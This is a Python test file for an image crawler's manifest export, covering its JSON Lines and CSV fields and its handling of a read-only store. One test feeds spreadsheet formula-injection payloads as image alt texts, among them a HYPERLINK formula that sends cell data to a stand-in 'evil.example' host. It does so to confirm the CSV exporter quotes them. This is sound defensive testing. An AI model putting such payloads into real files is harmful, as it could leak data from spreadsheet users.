"""The manifest: the default JSON Lines feed, and the same fields as CSV with -o."""

from __future__ import annotations

import csv
import html
import json
import os
import random
import shutil
import subprocess
from io import BytesIO, StringIO
from pathlib import Path

import pytest

from conftest import LocalSite, run_crawl
from imgcrawl.demo import make_image
from imgcrawl.manifest import ManifestCsvItemExporter
from imgcrawl.settings import FEED_EXPORT_FIELDS


def test_manifest_jsonl_and_csv_have_the_documented_fields(demo_site, tmp_path):
    result = run_crawl(tmp_path, "-a", f"url={demo_site.url('/gallery/')}", "-o", "images.csv")
    assert result.returncode == 0, result.log[-3000:]
    lines = result.manifest()
    assert len(lines) == 19  # 18 photos + the broken one
    with open(tmp_path / "images.csv", newline="", encoding="utf-8") as f:
        reader = csv.DictReader(f)
        assert reader.fieldnames == FEED_EXPORT_FIELDS
        rows = {row["url"]: row for row in reader}
    for line in lines:
        assert set(line) <= set(FEED_EXPORT_FIELDS)
        row = rows[line["url"]]
        if line["status"] == "failed":
            assert set(line) == {"url", "page_url", "alt", "title", "status", "reason"}
            assert row["reason"] == line["reason"] == "undecodable"
            assert row["path"] == row["sha256"] == ""
            continue
        assert set(line) == set(FEED_EXPORT_FIELDS) - {"reason"}
        for name in ("url", "page_url", "alt", "status", "path", "sha256", "format"):
            assert row[name] == str(line[name]), name
        for name in ("width", "height", "bytes"):
            assert int(row[name]) == line[name] > 0
        assert (result.store / line["path"]).stat().st_size == line["bytes"]
        assert json.loads(row["thumbs"]) == line["thumbs"] == {"small": line["thumbs"]["small"]}


# Alt texts a hostile page might carry: each would run as a formula in a spreadsheet.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1,1)"]


def test_csv_cells_that_start_a_formula_are_quoted_jsonl_kept_exact(tmp_path):
    rng = random.Random(5)
    imgs = "".join(f'<img src="/img/{n}.jpg" alt="{html.escape(alt)}">' for n, alt in enumerate(FORMULAS))
    imgs += '<img src="/img/t.jpg" alt="plain" title="=1+2">'  # a title too
    files = {"/g/": ("text/html", f"<html><body>{imgs}</body></html>".encode())}
    for name in [*map(str, range(len(FORMULAS))), "t"]:
        files[f"/img/{name}.jpg"] = ("image/jpeg", make_image(rng, "jpg", name))
    site = LocalSite(files).start()
    try:
        result = run_crawl(tmp_path, "-a", f"url={site.url('/g/')}", "-o", "images.csv")
    finally:
        site.stop()
    assert result.returncode == 0, result.log[-3000:]
    lines = {line["url"].rsplit("/", 1)[1]: line for line in result.manifest()}
    with open(tmp_path / "images.csv", newline="", encoding="utf-8") as f:
        rows = {row["url"].rsplit("/", 1)[1]: row for row in csv.DictReader(f)}
    assert set(rows) == set(lines) == {f"{n}.jpg" for n in range(len(FORMULAS))} | {"t.jpg"}
    for n, alt in enumerate(FORMULAS):
        assert lines[f"{n}.jpg"]["alt"] == alt  # the manifest keeps what the page said
        assert rows[f"{n}.jpg"]["alt"] == "'" + alt  # the spreadsheet shows it as text
    assert (lines["t.jpg"]["title"], rows["t.jpg"]["title"]) == ("=1+2", "'=1+2")
    assert rows["t.jpg"]["alt"] == "plain"
    for row in rows.values():  # the other cells are untouched: numbers, URLs, JSON
        assert row["url"].startswith("http://") and int(row["width"]) > 0
        assert json.loads(row["thumbs"])["small"].startswith("thumbs/small/")


def test_csv_exporter_quotes_tab_and_carriage_return_starts_too():
    out = BytesIO()
    exporter = ManifestCsvItemExporter(out, fields_to_export=["alt", "title", "width", "url"])
    exporter.start_exporting()
    exporter.export_item({"alt": "\t=cmd", "title": "\r@x", "width": -1, "url": "https://a.example/-x.jpg"})
    exporter.finish_exporting()
    row = next(csv.DictReader(StringIO(out.getvalue().decode())))
    assert row == {"alt": "'\t=cmd", "title": "'\r@x", "width": "-1", "url": "https://a.example/-x.jpg"}


def read_only(store: Path, how: str) -> tuple[str, ...]:
    """A command prefix under which ``store`` cannot be written to, though tests run as root:
    a read-only bind mount (EROFS), or modes without write bits in a user namespace, where
    root keeps no power over files (EACCES)."""
    if not shutil.which("unshare"):
        pytest.skip("needs unshare (util-linux)")
    if how == "bind-mount":
        wrapper = ("unshare", "--user", "--map-root-user", "--mount", "sh", "-c",
                   'mount --bind "$0" "$0" && mount -o remount,bind,ro "$0" && exec "$@"', str(store))
    else:
        store.chmod(0o555)
        wrapper = ("unshare", "--user") if os.geteuid() == 0 else ()
    if wrapper and subprocess.run([*wrapper, "true"]).returncode:
        pytest.skip(f"cannot make a read-only store by {how} here")
    return wrapper


@pytest.mark.parametrize("how", ["bind-mount", "chmod"])
def test_read_only_store_with_a_half_written_manifest_one_line(demo_site, tmp_path, how):
    store = tmp_path / "store"
    store.mkdir()
    manifest = store / "manifest.jsonl"
    manifest.write_bytes(b'{"url": "https://a.example/1.jpg"}\n{"url": "https://a.example/2.j')
    manifest.chmod(0o444)
    before = manifest.read_bytes()
    try:
        result = run_crawl(tmp_path, "-a", f"url={demo_site.url('/gallery/')}", store=store,
                           wrapper=read_only(store, how))
    finally:
        store.chmod(0o755)
    errors = [line for line in result.log.splitlines() if " ERROR: " in line or " CRITICAL: " in line]
    assert len(errors) == 1, result.log[-3000:]
    assert f"cannot write to IMAGES_STORE {store} (" in errors[0] and "-s IMAGES_STORE=" in errors[0]
    assert "'finish_reason': 'store_not_writable'" in result.log and "Traceback" not in result.log
    assert not any(p.startswith("/img/") for p in demo_site.hits)
    assert manifest.read_bytes() == before  # left for a crawl that can write to cut it
